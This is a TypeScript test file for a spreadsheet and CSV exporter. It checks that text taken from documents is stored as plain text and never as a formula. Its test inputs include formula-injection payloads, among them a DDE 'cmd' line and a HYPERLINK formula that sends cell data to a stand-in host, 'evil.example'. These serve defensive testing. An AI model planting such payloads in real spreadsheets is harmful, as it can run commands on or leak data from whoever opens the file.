import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { cellText, type CellValue, LONGEST_TEXT } from "../../src/sheets/cell.ts";
import { csvLines, csvText } from "../../src/sheets/csv-text.ts";
import type { FilledSheet } from "../../src/sheets/sheet.ts";
import { workbookBytes } from "../../src/sheets/workbook-bytes.ts";
import { openWorkbook } from "./open-workbook.ts";
import { cases } from "../support/cases.ts";

/** What a paper can print to be taken for a formula. */
const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  "+1+1",
  "-1+1|cmd",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  '"=1+1',
  "'=1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "−1+1",
  "\u0000=1+1",
];

/** Characters that cells, XML or comma-separated values treat in a way of their own. */
const odd = fc.string({
  unit: fc.oneof(
    fc.constantFrom(
      ...Array.from("=+-@\t\r\n ,;\"'|_x0041<>&]]"),
      "＝",
      "\u0000",
      "\u000b",
      "\u0085",
      "\ud800",
    ),
    fc.constantFrom("\ufffe", "\ufeff", "\u200e", "😀", "_x000D_", "a", "1", "."),
  ),
  maxLength: 30,
});

function sheetOf(values: readonly CellValue[]): FilledSheet {
  return {
    title: "Sheet",
    fileName: "sheet",
    columns: values.map((_, index) => ({ header: `h${index}`, kind: "text" })),
    rows: [{ origin: { name: "a.pdf", path: null }, pageNumber: null, values }],
    frozenCount: 0,
  };
}

async function cellsOf(values: readonly CellValue[]): Promise<readonly unknown[]> {
  const [sheet] = openWorkbook(await workbookBytes([sheetOf(values)], null));
  const cells = [...(sheet?.cells ?? [])].filter(([address]) => address.endsWith("2"));
  return cells.map(([, { type, value, formula }]) => ({ type, value, formula }));
}

function csvOf(values: readonly CellValue[]): readonly string[] {
  const [row = []] = parse(csvLines([values]), { record_delimiter: "\r\n" });
  return row;
}

describe("in a workbook", () => {
  test.each(FORMULAS)("%j is text", async (text) => {
    expect(await cellsOf([text])).toEqual([{ type: "text", value: cellText(text), formula: null }]);
  });

  test("whatever is printed is text, and as printed but for what no cell holds", async () => {
    const texts = fc.array(odd, { minLength: 1, maxLength: 20 });
    await fc.assert(
      fc.asyncProperty(texts, async (texts) => {
        const full = texts.map((text) => `x${text}`);
        expect(await cellsOf(full)).toEqual(
          full.map((text) => ({ type: "text", value: cellText(text), formula: null })),
        );
      }),
      { numRuns: cases(100), seed: 5 },
    );
  });

  test("formulas are only ours, and numbers stay numbers", async () => {
    expect(await cellsOf([-5.25, { formula: "A2*2", value: -10.5 }, "=A2", true])).toEqual([
      { type: "number", value: -5.25, formula: null },
      { type: "number", value: -10.5, formula: "A2*2" },
      { type: "text", value: "=A2", formula: null },
      { type: "truth", value: true, formula: null },
    ]);
  });

  test("a day before those that programs agree on is left as it is printed", async () => {
    const sheet = sheetOf(["1900-02-28", "1900-03-01"]);
    const columns = sheet.columns.map((column) => ({ ...column, kind: "date" as const }));
    const [open] = openWorkbook(await workbookBytes([{ ...sheet, columns }], null));
    expect(open?.cells.get("A2")).toMatchObject({ type: "text", value: "1900-02-28" });
    expect(open?.cells.get("B2")).toMatchObject({ type: "number", value: 61 });
  });
});

describe("in comma-separated values", () => {
  test.each(FORMULAS)("%j is kept from being a formula by an apostrophe", (text) => {
    expect(csvOf([text])).toEqual([`'${cellText(text)}`]);
  });

  test("whatever is printed comes back, and never begins like a formula", () => {
    fc.assert(
      fc.property(fc.array(odd, { minLength: 2, maxLength: 6 }), (texts) => {
        csvOf(texts).forEach((field, index) => {
          const clean = cellText(texts[index] ?? "");
          if (field === clean) expect(field).not.toMatch(/^[\s"']*[=+\-@＝]|^[\t\n]/);
          else expect(field).toBe(`'${clean}`);
        });
      }),
      { numRuns: cases(500), seed: 5 },
    );
  });

  test("numbers are not text, a negative one included; truths, formulas and blanks are values", () => {
    const formula = { formula: "A1+B1", value: -3.5 };
    expect(csvLines([[-5.25, 1e21, true, false, null, formula, "-"]])).toBe(
      "-5.25,1e+21,TRUE,FALSE,,-3.5,'-\r\n",
    );
  });

  test("begin with their headers, and a sheet without rows has nothing else", () => {
    expect(csvText({ columns: sheetOf([1, 2]).columns, rows: [] })).toBe("h0,h1\r\n");
  });
});

describe("the text of a cell", () => {
  test("is cut with a mark where a cell holds no more, and never within a character", () => {
    const long = cellText("😀".repeat(LONGEST_TEXT));
    expect(long.length).toBeLessThanOrEqual(LONGEST_TEXT);
    expect(long).toMatch(/^(?:😀)+ … \[cut\]$/u);
    expect(cellText("a".repeat(LONGEST_TEXT))).toHaveLength(LONGEST_TEXT);
  });

  test("has no control characters, no halves of characters and one kind of line end", () => {
    expect(cellText("a\u0000b\u001fc\u0085d\ud800e\ufffff\r\ng\rh")).toBe("abcdef\ng\nh");
  });
});
